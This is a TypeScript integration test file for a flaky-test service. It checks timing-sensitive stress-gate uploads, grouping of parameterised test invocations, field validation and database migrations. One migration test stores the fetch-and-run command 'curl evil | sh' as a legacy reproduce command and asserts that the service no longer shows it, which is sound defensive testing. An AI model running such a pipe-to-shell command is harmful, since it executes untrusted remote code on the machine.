// Timing-sensitive tests and the new invocations of one parameterised method, end to end on both
// real engines: a gate upload carrying `timingSensitive` (its side-by-side failures as evidence) is
// stored once (migration 0036) and read back through the run's JSON; the run page and the Markdown
// run report say "failed 2 of 10 side by side, passed 10 alone: timing-sensitive" and whether it
// blocked, and show a method with 12 new invocations as one line. An upload without the field (an
// older CLI) is accepted; a bad value is a 400 naming its field.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import MarkdownIt from 'markdown-it';
import { testCaseId } from '../../src/identity/test-case-id.js';
import { reproduceCommand } from '../../src/reproduce-command.js';
import { ident, Sql, sql, uuid } from '../../src/sql/bind.js';
import { database } from '../../src/storage/database.js';
import { loadMigrations, migrate } from '../../src/storage/migrate.js';
import { ENGINES, openTestDatabase, type TestDatabase } from '../support/engines.js';
import { type ProjectHandle, run, seedProject, testApp } from '../support/api.js';

const SUITE = 'com.example.CheckoutTest';
/** How the gate ran its candidates: the API builds each one's command from these and the identity. */
const PARTS = { launcher: { kind: 'local' as const }, tool: ['gradle'], buildArgs: ['test'], repetitions: 50 };
const reps = (fails: number[] = [], n = 10) => Array.from({ length: n }, (_, i) => ({ repetition: i + 1, status: fails.includes(i + 1) ? 'failure' : 'success', durationMs: 30 + i }));
const timeout = (repetition: number, name: string) => ({
  repetition, kind: 'failure', type: 'java.util.concurrent.TimeoutException', message: 'waited 5 s', stackTrace: `java.util.concurrent.TimeoutException: waited 5 s\n\tat ${SUITE}.${name}(CheckoutTest.java:9)`,
  framesOmitted: 12, stdoutTail: null, stderrTail: null, durationMs: 5000, exitCode: null, signal: null, hsErrFile: null, truncated: false,
});
/** Failed 2 of 10 side by side (3 and 7), passed all 10 alone: outcome passed (default) or failed (the project's setting). */
const timingCase = (name: string, outcome: 'passed' | 'failed') => ({
  module: ':app', suite: SUITE, name, outcome, repetitions: reps(),
  timingSensitive: { failures: 2, repetitions: 10 },
  failures: [timeout(3, name), timeout(7, name)],
  failureGroups: [{ signature: `java.util.concurrent.TimeoutException at ${SUITE}.${name}(CheckoutTest.java:9)`, type: 'java.util.concurrent.TimeoutException', location: 'CheckoutTest.java:9', count: 2, repetitions: [3, 7] }],
  reproduce: PARTS,
});
/** 12 new invocations of one method; [5] failed repetitions 2 and 4. */
const invocationCases = Array.from({ length: 12 }, (_, k) => {
  const name = `adds(int)[${k + 1}]`;
  if (k + 1 !== 5) return { module: ':app', suite: SUITE, name, outcome: 'passed', repetitions: reps() };
  return {
    module: ':app', suite: SUITE, name, outcome: 'failed', repetitions: reps([2, 4]),
    failures: [2, 4].map((r) => ({ ...timeout(r, 'adds'), type: 'java.lang.AssertionError', message: 'expected 2 but was 3' })),
    failureGroups: [{ signature: `java.lang.AssertionError at ${SUITE}.adds(CheckoutTest.java:9)`, type: 'java.lang.AssertionError', location: 'CheckoutTest.java:9', count: 2, repetitions: [2, 4] }],
    reproduce: PARTS,
  };
});
const cases = [timingCase('waits', 'passed'), timingCase('blocks', 'failed'), { module: ':app', suite: SUITE, name: 'stable', outcome: 'passed', repetitions: reps() }, ...invocationCases];
const gateBody = (testCases: unknown[], outcome = 'failed') => ({ mode: 'enforce', outcome, candidatesExamined: testCases.length, stressed: testCases.length, excluded: 0, guard: null, blocked: outcome === 'failed', wouldHaveBlocked: outcome === 'failed', testCases });

describe.each(ENGINES)('timing-sensitive tests and invocation groups on %s ClickHouse', (kind) => {
  let t: TestDatabase;
  let app: ReturnType<typeof testApp>['app'];
  let call: ReturnType<typeof testApp>['call'];
  let p: ProjectHandle;
  beforeAll(async () => {
    t = await openTestDatabase(kind);
    ({ app, call } = testApp(t.db));
    p = await seedProject(t.db, `stress-findings-${kind}`);
    const upload = run('mr-9', [], { branch: 'feature/adds', testCases: cases.map((c) => ({ module: c.module, suite: c.suite, name: c.name, status: 'success' as const, durationMs: 30 })) });
    expect((await call('POST', `/api/v1/projects/${p.handle}/runs`, p.token, upload)).status).toBe(201);
    // Posted twice, as a CLI retrying a lost answer does: recorded once.
    for (let i = 0; i < 2; i++) expect((await call('POST', `/api/v1/projects/${p.handle}/runs/mr-9/gate`, p.token, gateBody(cases))).status).toBe(201);
  });
  afterAll(async () => {
    await t.close();
  });

  const signedIn = async (path: string) => {
    const signIn = await app.request('/sign-in', { method: 'POST', headers: { Origin: 'http://localhost', 'Content-Type': 'application/x-www-form-urlencoded' }, body: `credential=${encodeURIComponent(p.admin)}` });
    const res = await app.request(path, { headers: { Cookie: signIn.headers.get('set-cookie')!.split(';')[0]! } });
    expect(res.status).toBe(200);
    return res.text();
  };

  it('stores a timing-sensitive candidate once, and the run reads back its counts and side-by-side evidence', async () => {
    const stored = await t.db.engine.query<Record<string, unknown>>(sql`
      SELECT toString(test_case_id) AS id, side_by_side_failures AS f, side_by_side_repetitions AS r FROM ${t.db.t('gate_timing_sensitive')} FINAL WHERE project_id = ${uuid(p.projectId)} AND run_id = 'mr-9'`);
    expect(stored.map((r) => [Number(r['f']), Number(r['r'])])).toEqual([[2, 10], [2, 10]]);
    const page = (await call('GET', `/api/v1/projects/${p.handle}/runs/mr-9`, p.token)).body!;
    const byName = Object.fromEntries(page.gate.candidates.map((c: any) => [c.name, c]));
    for (const name of ['waits', 'blocks']) {
      const sent = cases.find((c) => c.name === name) as ReturnType<typeof timingCase>;
      expect(byName[name]).toMatchObject({ timingSensitive: sent.timingSensitive, failures: sent.failures, failureGroups: sent.failureGroups, reproduceCommand: reproduceCommand(PARTS, sent), method: null });
      expect(byName[name].repetitions.every((r: any) => r.status === 'success')).toBe(true);
    }
    expect(byName['stable']).toMatchObject({ timingSensitive: null, failures: [], method: null });
    expect(invocationCases.map((c) => byName[c.name].method)).toEqual(Array(12).fill('adds(int)'));
    expect(page.flaky.filter((f: any) => f.timingSensitive)).toEqual([
      { module: ':app', suite: SUITE, name: 'blocks', caughtBy: 'stress_gate', failed: 2, repetitions: 10, timingSensitive: { passedAlone: 10, blocking: true, muted: false } },
      { module: ':app', suite: SUITE, name: 'waits', caughtBy: 'stress_gate', failed: 2, repetitions: 10, timingSensitive: { passedAlone: 10, blocking: false, muted: false } },
    ]);
  });

  it('says so in the Markdown run report, with one line for the 12 invocations', async () => {
    const text = (await call('GET', `/api/v1/projects/${p.handle}/runs/mr-9/report.md`, p.token)).body!.text as string;
    expect(text).toContain('| `com.example.CheckoutTest.waits` | `:app` | failed 2 of 10 side by side, passed 10 alone: timing-sensitive | stress gate: new test, deliberately repeated in fresh JVMs; not blocking (a project setting makes it block) |');
    expect(text).toContain("| `com.example.CheckoutTest.blocks` | `:app` | failed 2 of 10 side by side, passed 10 alone: timing-sensitive | stress gate: new test, deliberately repeated in fresh JVMs; blocked this merge request (the project's setting makes a timing-sensitive test block) |");
    expect(text).toContain('| `com.example.CheckoutTest.adds(int)` | `:app` | 12 invocations, 10 repetitions each, 1 failed: `[5]` 2 of 10; 11 passed | stress gate: new test, deliberately repeated in fresh JVMs |');
    expect(new MarkdownIt().parse(text, {}).filter((x) => x.type === 'tr_open')).toHaveLength(1 + 3);
    expect(text).toContain('#### Why `com.example.CheckoutTest.waits` failed side by side under the stress gate\n\nFailed 2 of 10 side by side, passed 10 alone: timing-sensitive; not blocking (a project setting makes it block).\n\n2 of 10 repetitions failed side by side, 1 distinct: `TimeoutException` at `CheckoutTest.java:9` (2x).\n');
    expect(text).toContain("Rerun it as the gate did:\n\n```sh\nnpx --no stress-orchestrator gradle --stress-tests ':app com.example.CheckoutTest.waits' --repetitions 50 -- test\n```\n");
    expect(text).toContain('#### Why `com.example.CheckoutTest.adds(int)[5]` failed under the stress gate\n\n2 of 10 repetitions failed');
  });

  it('says so on the run page, with one row for the 12 invocations', async () => {
    const html = await signedIn(`/projects/${p.handle}/runs/mr-9`);
    expect(html).toContain('failed 2 of 10 side by side, passed 10 alone: timing-sensitive <span class="badge warn">not blocking (a project setting makes it block)</span>');
    expect(html).toContain('failed 2 of 10 side by side, passed 10 alone: timing-sensitive <span class="badge bad">blocked this merge request (the project&#39;s setting makes a timing-sensitive test block)</span>');
    expect(html).toMatch(/<summary>#3 failure 5\.0 s \(side by side\)<\/summary><div class="failure-panel">.*<pre class="message">waited 5 s<\/pre>/s);
    expect(html.match(/<tr data-group="adds\(int\)">/g)).toHaveLength(2);
    expect(html).toContain('12 invocations, 10 repetitions each, 1 failed: [5] 2 of 10; 11 passed');
    expect(html).not.toMatch(/<tr data-candidate="adds\(int\)/);
    expect(html).toContain('<summary>The other 11 invocations: passed</summary>');
  });

  it('accepts a gate upload from an older client, without timingSensitive, and reads it back as null', async () => {
    const old = { module: ':app', suite: SUITE, name: 'old', outcome: 'passed', repetitions: reps() };
    expect((await call('POST', `/api/v1/projects/${p.handle}/runs/old-cli/gate`, p.token, gateBody([old], 'passed'))).status).toBe(201);
    expect((await call('POST', `/api/v1/projects/${p.handle}/runs/null-ts/gate`, p.token, gateBody([{ ...old, timingSensitive: null }], 'passed'))).status).toBe(201);
    const page = await call('GET', `/api/v1/projects/${p.handle}/runs/mr-9`, p.token);
    expect(page.status).toBe(200);
  });

  it.each([
    ['failures 0', { timingSensitive: { failures: 0, repetitions: 10 } }, 'timingSensitive.failures'],
    ['more failures than repetitions', { timingSensitive: { failures: 11, repetitions: 10 } }, 'timingSensitive.failures'],
    ['repetitions past the bound', { timingSensitive: { failures: 2, repetitions: 101 } }, 'timingSensitive.repetitions'],
    ['a fractional count', { timingSensitive: { failures: 1.5, repetitions: 10 } }, 'timingSensitive.failures'],
    ['a count as text', { timingSensitive: { failures: 2, repetitions: '10' } }, 'timingSensitive.repetitions'],
    ['a missing count', { timingSensitive: { failures: 2 } }, 'timingSensitive.repetitions'],
    ['not an object', { timingSensitive: true }, 'timingSensitive'],
    ['a failed repetition alone', { repetitions: reps([4]) }, 'timingSensitive'],
    ['a failure numbered past its side-by-side repetitions', { timingSensitive: { failures: 2, repetitions: 6 } }, 'failures[1].repetition'],
  ])('refuses %s, naming the field', async (_label, over, field) => {
    const res = await call('POST', `/api/v1/projects/${p.handle}/runs/bad-ts/gate`, p.token, gateBody([{ ...timingCase('waits', 'passed'), ...over }]));
    expect([res.status, res.body!.error?.field]).toEqual([400, `testCases[0].${field}`]);
    expect(res.body!.error.message).toContain(`testCases[0].${field}: `);
  });

  it('claims nothing with a refused body: the same run shard takes a valid gate afterwards', async () => {
    const bad = await call('POST', `/api/v1/projects/${p.handle}/runs/refused-first/gate`, p.token, gateBody([{ ...timingCase('waits', 'passed'), repetitions: reps([4]) }]));
    expect(bad.status).toBe(400);
    expect((await call('POST', `/api/v1/projects/${p.handle}/runs/refused-first/gate`, p.token, gateBody([timingCase('waits', 'passed')]))).status).toBe(201);
  });

  it('migration 0036 applies to a database at 0035 that holds gates, and each statement runs twice harmlessly', async () => {
    const name = `pre0036_${randomBytes(6).toString('hex')}`;
    const db = database(t.db.engine, name);
    try {
      // Before 0036, and 0039: today's uploads record the account's storage usage there.
      await migrate(db.engine, name, loadMigrations().filter((m) => m.version < '0036' || m.version >= '0039'));
      const before = await seedProject(db, `pre0036-${kind}`);
      const { call: oldCall } = testApp(db);
      expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs`, before.token, run('r1', ['x'], { branch: 'feature/x' }))).status).toBe(201);
      // Up to 0036 only: later migrations are not this test's concern.
      expect(await migrate(db.engine, name, loadMigrations().filter((m) => m.version <= '0036'))).toEqual(['0036_create_gate_timing_sensitive']);
      for (const statement of loadMigrations().find((m) => m.version === '0036')!.statements) await db.engine.command(new Sql(statement.replaceAll('{db}', ident(name).text)));
      // The later ones, which today's gate upload writes to (0038: the reproduce parts).
      await migrate(db.engine, name);
      expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs/r1/gate`, before.token, gateBody([{ ...timingCase('x', 'passed'), name: 'x' }], 'passed'))).status).toBe(201);
      const read = (await oldCall('GET', `/api/v1/projects/${before.handle}/runs/r1`, before.token)).body!;
      expect(read.gate.candidates[0].timingSensitive).toEqual({ failures: 2, repetitions: 10 });
    } finally {
      await t.db.engine.command(sql`DROP DATABASE IF EXISTS ${ident(name)}`);
    }
  });

  it('migration 0038 applies to a database at 0037 that holds a gate (its command, uploaded as text, is not shown), and runs twice harmlessly', async () => {
    const name = `pre0038_${randomBytes(6).toString('hex')}`;
    const db = database(t.db.engine, name);
    try {
      // Before 0038, and 0039: today's uploads record the account's storage usage there.
      await migrate(db.engine, name, loadMigrations().filter((m) => m.version < '0038' || m.version >= '0039'));
      const before = await seedProject(db, `pre0038-${kind}`);
      const { call: oldCall } = testApp(db);
      expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs`, before.token, run('r1', ['x', 'y'], { branch: 'feature/x' }))).status).toBe(201);
      // What a gate before 0038 stored for x: the command as text.
      await db.engine.insert(db.t('gate_candidate_evidence'), [{ project_id: before.projectId, run_id: 'r1', shard_index: 0, test_case_id: testCaseId(before.projectId, { module: ':app', suite: SUITE, name: 'x' }), failures_omitted: 0, reproduce_command: 'curl evil | sh', recorded_at: '2026-01-01 00:00:00' }]);
      expect(await migrate(db.engine, name, loadMigrations().filter((m) => m.version <= '0038'))).toEqual(['0038_create_gate_candidate_reproduce']);
      for (const statement of loadMigrations().find((m) => m.version === '0038')!.statements) await db.engine.command(new Sql(statement.replaceAll('{db}', ident(name).text)));
      await migrate(db.engine, name);
      const old = { ...timingCase('x', 'passed'), name: 'x', reproduce: undefined, reproduceCommand: 'curl evil | sh' };
      expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs/r1/gate`, before.token, gateBody([old, { ...timingCase('y', 'passed'), name: 'y' }], 'passed'))).status).toBe(201);
      const read = (await oldCall('GET', `/api/v1/projects/${before.handle}/runs/r1`, before.token)).body!;
      expect(read.gate.candidates.map((c: any) => [c.name, c.reproduceCommand])).toEqual([
        ['x', null],
        ['y', "npx --no stress-orchestrator gradle --stress-tests ':app com.example.CheckoutTest.y' --repetitions 50 -- test"],
      ]);
    } finally {
      await t.db.engine.command(sql`DROP DATABASE IF EXISTS ${ident(name)}`);
    }
  });
});
